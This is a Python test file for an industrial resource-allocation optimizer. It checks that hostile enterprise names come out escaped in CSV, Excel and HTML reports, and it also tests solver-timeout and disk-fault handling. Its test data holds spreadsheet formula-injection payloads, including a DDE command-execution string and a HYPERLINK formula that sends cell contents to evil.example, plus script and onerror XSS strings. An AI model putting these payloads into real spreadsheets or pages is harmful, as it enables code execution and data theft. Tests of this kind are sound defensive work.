"""Hostile input text and faults (issue 7): formula injection, HTML injection, solver limits,
unwritable or full disks.

A planner's spreadsheet may hold names that start with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return — Excel, LibreOffice and WPS read such a
cell as a formula — or markup such as ``<script>``. Every output a decision
maker opens (CSVs, report.xlsx, report.html) must show them as inert text.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
from pathlib import Path

import pytest

from tests.conftest import MODELS, REPO, SMALL_ENTERPRISES

REPO_CORPUS = REPO / "tests" / "data" / "bad"

HEADER, *ROWS = SMALL_ENTERPRISES.splitlines()
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"^-?\d+(\.\d+)?([eE][+-]?\d+)?$")

# (column, row index, hostile value): every kind of formula start and markup
HOSTILE = [
    ("name", 0, '=HYPERLINK("http://evil.example/?x="&A1,"点击领取补贴")'),
    ("id", 0, "+E01"),
    ("name", 3, "@SUM(1,2)"),
    ("name", 4, "\t=5+6"),
    ("name", 5, "\r=7+8"),
    ("county", 0, "=cmd|' /C calc'!A0"),
    ("county", 1, "=cmd|' /C calc'!A0"),
    ("county", 2, "=cmd|' /C calc'!A0"),
    ("county", 3, "=cmd|' /C calc'!A0"),
    ("county", 4, "=cmd|' /C calc'!A0"),
    ("county", 5, "=cmd|' /C calc'!A0"),
    ("id", 3, "@E04"),
    ("id", 4, "-E05"),
    ("veto", 5, "+环保处罚"),
    ("sector", 1, "=26"),
]
SCRIPT_NAME = "<script>alert('mujun')</script>乙化工"
EMBEDDED_CR = "丙电子\r=HYPERLINK(\"http://evil.example\")"
ZONE_NAMES = ["<img src=x onerror=alert(1)>一号园区", "=HYPERLINK(\"http://evil.example\")"]


def hostile_rows() -> list[list[str]]:
    names = HEADER.split(",")
    rows = [r.split(",") for r in ROWS]
    for column, index, value in HOSTILE:
        rows[index][names.index(column)] = value
    rows[1][names.index("name")] = SCRIPT_NAME
    rows[2][names.index("name")] = EMBEDDED_CR
    return [names, *rows]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """One full run (zones layer included) on a table full of hostile text."""
    import geopandas as gpd
    from shapely.geometry import box

    from optimizer.cli import main

    folder = tmp_path_factory.mktemp("hostile")
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(hostile_rows())
    (folder / "enterprises.csv").write_text(buf.getvalue(), encoding="utf-8", newline="")
    x0, y0 = 500000.0, 3170000.0
    gpd.GeoDataFrame({"zone_id": ["Z1", "Z2"], "name": ZONE_NAMES, "level": ["provincial"] * 2,
                      "approved_area_ha": [100.0, 100.0]},
                     geometry=[box(x0, y0, x0 + 1000, y0 + 1000),
                               box(x0 + 1000, y0, x0 + 2000, y0 + 1000)],
                     crs="EPSG:4549").to_file(folder / "zones.gpkg", engine="pyogrio")
    (folder / "scenario.toml").write_text(f"""\
[scenario]
name = "<script>alert('scenario')</script>"
description = "=HYPERLINK(\\"http://evil.example\\")"
model = "{(MODELS / 'huangyan-2022.toml').as_posix()}"
enterprises = "enterprises.csv"
zones = "zones.gpkg"
resources = ["land_mu", "energy_tce", "cod_t"]

[caps.global]
energy_tce = {{ factor = 0.97 }}

[caps.zone]
land_mu = "boundary"
""", encoding="utf-8")
    out = folder / "out"
    code = main(["run", str(folder / "scenario.toml"), "-o", str(out), "--quiet", "--jobs", "1"])
    assert code == 0
    return out


def risky(cell: str) -> bool:
    """A cell a spreadsheet would evaluate: a formula start that is not a plain number."""
    return bool(FORMULA_START.match(cell)) and not NUMBER.match(cell)


def test_every_csv_cell_is_inert(hostile_run):
    files = sorted(hostile_run.rglob("*.csv"))
    assert {"allocation.csv", "grades.csv", "zones.csv", "comparison.csv"} <= {p.name for p in files}
    seen = set()
    for path in files:
        data = path.read_bytes()
        assert b"\r" not in data, f"{path.name}: a bare carriage return splits rows in Excel"
        for row in csv.reader(io.StringIO(data.decode("utf-8"))):
            for cell in row:
                assert not risky(cell), f"{path.name}: formula cell {cell!r}"
                seen.add(cell)
    # the hostile text is still there, shown as text (not dropped)
    assert {"'+E01", "'@E04", "'-E05", "'@SUM(1,2)", "'=5+6", "'=7+8"} <= seen
    assert any(c.startswith("'=HYPERLINK") for c in seen)


def test_no_firm_is_dropped_and_ids_survive(hostile_run):
    import pandas as pd

    alloc = pd.read_csv(hostile_run / "base" / "allocation.csv", dtype=str, keep_default_na=False)
    assert len(alloc) == len(ROWS)
    assert sorted(alloc["id"]) == sorted(["'+E01", "E02", "E03", "'@E04", "'-E05", "E06"])


def test_xlsx_has_no_formula_from_input(hostile_run):
    import openpyxl

    book = openpyxl.load_workbook(hostile_run / "report.xlsx")
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str)
                                             and cell.value.startswith("=")):
                    raise AssertionError(f"{sheet.title}!{cell.coordinate}: formula {cell.value!r}")
                if isinstance(cell.value, str):
                    assert not risky(cell.value), f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                    texts.append(cell.value)
    assert any("HYPERLINK" in t for t in texts), "the hostile name vanished from the workbook"
    assert any(SCRIPT_NAME in t for t in texts)


def test_html_escapes_all_input_text(hostile_run):
    html = (hostile_run / "report.html").read_text(encoding="utf-8")
    for raw in ("<script>alert", "<img src=x", 'href="http://evil', "href='http://evil",
                "<script>alert('scenario')"):
        assert raw not in html, raw
    # shown escaped (as HTML entities or as \u003c inside embedded JSON), not dropped
    assert "&lt;script&gt;alert" in html or "\\u003cscript\\u003ealert" in html
    assert "&lt;img src=x" in html or "\\u003cimg src=x" in html
    # every <script> element in the file is MuJun's own: none carries input text
    for body in re.findall(r"<script[^>]*>(.*?)</script>", html, flags=re.S):
        assert "<script" not in body and "</" not in body


# ---------------------------------------------------------------- faults

def test_solver_time_limit_exits_3_with_best_bound(tmp_path, cli):
    """A MILP that cannot finish in 1 ms: exit 3, status and best bound named, no folder."""
    import numpy as np

    from optimizer.allocation.synthetic import synthetic_enterprises

    frame = synthetic_enterprises(400, n_zones=8, seed=3)
    frame["county"] = "黄岩区"
    frame["name"] = "企业" + frame["id"]
    frame["grade"] = ""
    for col in ("revenue", "rd_expense", "employees"):
        frame[col] = np.round(frame["land_mu"] * 10, 3)
    frame["cod_t"] = frame["cod_t"].fillna(0.0)
    keep = [c for c in HEADER.split(",") if c in frame.columns]
    frame[keep].to_csv(tmp_path / "enterprises.csv", index=False)
    (tmp_path / "scenario.toml").write_text(f"""\
[scenario]
name = "slow"
model = "{(MODELS / 'huangyan-2022.toml').as_posix()}"
enterprises = "enterprises.csv"
resources = ["land_mu", "energy_tce", "cod_t", "nox_t"]
method = "milp"
solver = "highs"
time_limit_s = 0.001

[caps.global]
energy_tce = {{ factor = 0.99 }}

[caps.zone]
land_mu = {{ factor = 1.0 }}

[projects]
fdi_weight = 1.2
""", encoding="utf-8")
    out = tmp_path / "out"
    code, _, err = cli("run", tmp_path / "scenario.toml", "-o", out, "--quiet", "--jobs", "1")
    assert code == 3, err
    assert "status time_limit" in err and "time_limit_s" in err and "Traceback" not in err, err
    # in 1 ms HiGHS has no relaxation yet: the message says so instead of "best bound inf"
    assert re.search(r"best bound [\d,]+\.\d\d 万元|no bound known yet", err), err
    assert "inf" not in err.replace("information", "")
    assert not out.exists() and not list(tmp_path.glob(".out*"))


def test_solver_failure_carries_the_best_bound():
    """The exit-3 error of a real time-limited MILP, once with and once without a bound."""
    import dataclasses

    from optimizer.allocation.engine import allocate
    from optimizer.allocation.synthetic import synthetic_config, synthetic_enterprises
    from optimizer.pipeline import solver_failure

    cfg = dataclasses.replace(synthetic_config(4, method="milp"), time_limit_s=0.001)
    result = allocate(synthetic_enterprises(300, n_zones=6, seed=5), cfg)
    assert result.status == "time_limit"
    error = solver_failure("base", dataclasses.replace(result, best_bound=12345.678))
    assert error.exit_code == 3 and error.status == "time_limit" and error.best_bound == 12345.678
    assert "best bound 12,345.68 万元" in error.render()
    error = solver_failure("base", dataclasses.replace(result, best_bound=float("inf")))
    assert error.best_bound is None and "no bound known yet" in error.render()


def test_interrupt_with_parallel_workers_leaves_nothing(tmp_path):
    """SIGTERM while two workers run variants: no output and no temporary folder, even
    after the workers would have finished (test_runner covers --jobs 1)."""
    import signal
    import subprocess
    import sys
    import time

    out = tmp_path / "out"
    proc = subprocess.Popen([sys.executable, "-m", "optimizer.cli", "run",
                             str(REPO / "scenarios" / "energy-sweep.toml"), "-o", str(out),
                             "--jobs", "2", "--quiet"], cwd=tmp_path,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.time() + 90
    while not list(tmp_path.glob(".out.partial-*/*/allocation.csv")) and time.time() < deadline:
        assert proc.poll() is None, "the run ended before it could be interrupted"
        time.sleep(0.02)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=90)
    assert proc.returncode == 130, err.decode()
    time.sleep(1.0)          # a surviving worker would write within this second
    assert not out.exists() and not list(tmp_path.glob(".out*"))


def test_errors_cross_process_boundaries_intact():
    """Workers (--jobs N, Dask) send errors back pickled: every class keeps its context."""
    import pickle

    from optimizer.errors import (InfeasibleError, InputError, OutputError, ScenarioError,
                                  SolverError, ValidationErrors)

    errors = [InputError("not a number", file="e.csv", row=3, column="tax", rule="number"),
              ScenarioError("unknown key", file="s.toml", column="caps.zone"),
              InfeasibleError("infeasible", diagnosis=["zone Z1: land cap 60 mu"]),
              SolverError("stopped", status="time_limit", best_bound=12.5),
              OutputError("disk full", file="out", rule="free disk space")]
    errors.append(ValidationErrors(errors[:2]))
    for error in errors:
        back = pickle.loads(pickle.dumps(error))
        assert type(back) is type(error) and back.render() == error.render()
        assert back.exit_code == error.exit_code
        plain = {k: v for k, v in error.__dict__.items() if k != "errors"}
        assert {k: v for k, v in back.__dict__.items() if k != "errors"} == plain
    assert [e.render() for e in back.errors] == [e.render() for e in errors[:2]]


def test_several_errors_from_parallel_workers(tmp_path, cli):
    """Inputs are read in the workers: a table with three errors, two runs, --jobs 2."""
    case = REPO_CORPUS / "ent-several-errors"
    (tmp_path / "enterprises.csv").write_bytes((case / "enterprises.csv").read_bytes())
    text = (case / "scenario.toml").read_text(encoding="utf-8").replace(
        "../../../../models/", (MODELS.as_posix() + "/"))
    text += '\n[[variants]]\nname = "v1"\nset = { "tiers.D.scale" = [0.4, 0.7] }\n'
    (tmp_path / "scenario.toml").write_text(text, encoding="utf-8")
    code, _, err = cli("run", tmp_path / "scenario.toml", "-o", tmp_path / "out", "--quiet",
                       "--jobs", "2")
    assert code == 2, err
    assert "3 error(s)" in err and "row 2" in err and "row 4, column 'fdi'" in err
    assert not list(tmp_path.glob("*out*"))


def test_output_under_a_file_is_a_clear_error(small_case, cli, tmp_path):
    """The output's parent is a file (what a read-only mount looks like to root)."""
    blocker = tmp_path / "report-folder"
    blocker.write_text("not a folder")
    code, _, err = cli("run", small_case, "-o", blocker / "out", "--quiet", "--jobs", "1")
    assert code == 2 and "cannot write" in err and "Traceback" not in err
    assert blocker.read_text() == "not a folder"


@pytest.mark.parametrize("err_no, words", [(errno.ENOSPC, "disk full"),
                                           (errno.EROFS, "read-only"),
                                           (errno.EACCES, "no permission")])
def test_disk_full_or_read_only_leaves_nothing(small_case, cli, tmp_path, monkeypatch, err_no,
                                               words):
    """The final rename fails (disk full, read-only): clear message, no partial folder."""
    real_rename = os.rename

    def failing_rename(src, dst, *args, **kwargs):
        if Path(dst).name == "out":
            raise OSError(err_no, os.strerror(err_no), str(dst))
        return real_rename(src, dst, *args, **kwargs)

    monkeypatch.setattr(os, "rename", failing_rename)
    out = tmp_path / "out"
    code, _, err = cli("run", small_case, "-o", out, "--quiet", "--jobs", "1")
    assert code == 2, err
    assert words in err and str(out) in err and "Traceback" not in err
    assert not out.exists() and not list(tmp_path.glob(".out*"))


def test_failed_replacement_keeps_the_previous_results(small_case, cli, tmp_path, monkeypatch):
    """--force over an earlier run, and the final rename fails: the earlier run stays."""
    out = tmp_path / "out"
    out.mkdir()
    (out / "earlier.txt").write_text("last week's results")
    real_rename = os.rename

    def failing_rename(src, dst, *args, **kwargs):
        if ".partial-" in Path(src).name and Path(dst) == out:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(dst))
        return real_rename(src, dst, *args, **kwargs)

    monkeypatch.setattr(os, "rename", failing_rename)
    code, _, err = cli("run", small_case, "-o", out, "--quiet", "--jobs", "1", "--force")
    assert code == 2 and "disk full" in err, err
    assert (out / "earlier.txt").read_text() == "last week's results"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["enterprises.csv", "out",
                                                                 "scenario.toml"])


def test_disk_full_while_writing_a_result_file(small_case, cli, tmp_path, monkeypatch):
    """ENOSPC in the middle of writing summary.json: the run stops, nothing is left."""
    real_write_text = Path.write_text

    def failing_write_text(self, *args, **kwargs):
        if self.name == "summary.json":
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(self))
        return real_write_text(self, *args, **kwargs)

    monkeypatch.setattr(Path, "write_text", failing_write_text)
    out = tmp_path / "out"
    code, _, err = cli("run", small_case, "-o", out, "--quiet", "--jobs", "1")
    assert code == 2, err
    assert "disk full" in err and "Traceback" not in err
    assert not out.exists() and not list(tmp_path.glob(".out*"))


@pytest.mark.parametrize("target", ["inputs folder", "its parent"])
def test_output_over_the_inputs_is_refused_even_with_force(small_case, cli, target):
    """-o on the folder holding the inputs (or above it) with --force must not delete them."""
    folder = small_case.parent
    before = {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}
    out = folder if target == "inputs folder" else folder.parent
    for command in (["run", small_case, "-o", out, "--quiet", "--jobs", "1", "--force"],
                    ["grade", small_case, "-o", out, "--force"]):
        code, _, err = cli(*command)
        assert code == 2 and "holds the input" in err and "Traceback" not in err, err
    assert {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()} == before
    assert not list(out.glob(".*partial*"))


def test_compare_into_a_compared_run_is_refused(small_case, cli, tmp_path):
    run = tmp_path / "run"
    assert cli("run", small_case, "-o", run, "--quiet", "--jobs", "1")[0] == 0
    code, _, err = cli("compare", run, "-o", run, "--force")
    assert code == 2 and "holds the input" in err
    assert (run / "base" / "allocation.csv").exists()


def test_infeasible_run_writes_its_explanation(small_case, cli, tmp_path):
    """Exit 1 is not a crash: the run folder exists with status and diagnosis."""
    text = small_case.read_text(encoding="utf-8").replace("factor = 0.97", "factor = 0.2")
    small_case.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    code, _, err = cli("run", small_case, "-o", out, "--quiet", "--jobs", "1")
    assert code == 1, err
    summary = json.loads((out / "base" / "summary.json").read_text(encoding="utf-8"))
    assert summary["status"] == "infeasible"
    assert any("energy cap" in d and "tce" in d for d in summary["diagnosis"])
    assert "energy cap" in err
